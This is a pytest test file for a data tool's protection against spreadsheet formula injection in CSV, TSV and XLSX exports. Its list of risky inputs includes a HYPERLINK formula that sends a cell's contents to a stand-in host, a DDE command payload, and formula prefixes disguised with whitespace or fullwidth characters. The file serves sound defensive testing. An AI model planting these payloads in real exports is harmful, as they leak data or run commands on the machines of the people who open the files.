"""Formula (CSV) injection: every CSV, TSV and XLSX written for people keeps risky cells inert."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from community_insights.safety import escape_formula, escape_frame, write_table
from community_insights.safety.formulas import is_formula_like

RISKY = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1dSUM(A1)",  # fullwidth equals
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\x00=1",
]
HARMLESS = ["plain", "a=b", "1-2", "", "email@example.org", "'quoted already"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, 12, -3.5, None])
def test_harmless_values_are_unchanged(value: object) -> None:
    assert escape_formula(value) == value


def test_frame_rule_matches_the_scalar_rule() -> None:
    """The vectorised polars pattern and the Python pattern must agree on every case."""

    values = [*RISKY, *HARMLESS]
    frame = pl.DataFrame({"text": values, "number": list(range(len(values)))})
    escaped = escape_frame(frame)
    assert escaped["text"].to_list() == [escape_formula(v) for v in values]
    assert escaped["number"].to_list() == list(range(len(values)))


def test_header_is_escaped_without_colliding() -> None:
    frame = pl.DataFrame({"=cmd": ["a"], "'=cmd": ["b"]})
    assert escape_frame(frame).columns == ["''=cmd", "'=cmd"]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_delimited_safe_copy_is_escaped_unless_turned_off(tmp_path: Path, suffix: str) -> None:
    frame = pl.DataFrame({"=head": RISKY})
    people = tmp_path / f"people{suffix}"
    machine = tmp_path / f"machine{suffix}"
    write_table([frame], people)
    write_table([frame], machine, escape_formulas=False)
    delimiter = "," if suffix == ".csv" else "\t"
    with open(people, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))
    assert rows[0] == ["'=head"]
    assert all(is_formula_like(r[0][1:]) and r[0].startswith("'") for r in rows[1:])
    with open(machine, newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle, delimiter=delimiter))[0] == "=head"


@pytest.mark.parametrize("escape", [True, False])
def test_xlsx_never_holds_a_formula(tmp_path: Path, escape: bool) -> None:
    target = tmp_path / "copy.xlsx"
    write_table([pl.DataFrame({"=head": RISKY[:4]})], target, escape_formulas=escape)
    sheet = load_workbook(target).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type == "s" for c in cells)
    assert (cells[0].value == "'=head") is escape
